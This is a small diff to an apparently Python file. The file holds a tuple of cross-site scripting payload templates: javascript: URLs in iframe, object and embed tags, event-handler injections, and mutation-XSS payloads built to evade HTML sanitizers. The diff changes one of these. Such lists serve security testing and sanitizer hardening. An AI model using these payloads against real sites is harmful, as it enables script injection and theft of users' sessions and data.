@@ -27,7 +27,7 @@ ELEMENTS = (
     "<iframe src='javascript:parent.{}'></iframe>",
     "<object data='javascript:{}'></object>",
     "<embed src='javascript:{}'>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
+    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src=x onerror={}&gt;'>",
     "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
     "<form><button formaction='javascript:{}' autofocus onfocus={}>x</button></form>",
     "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={}>x</b>",
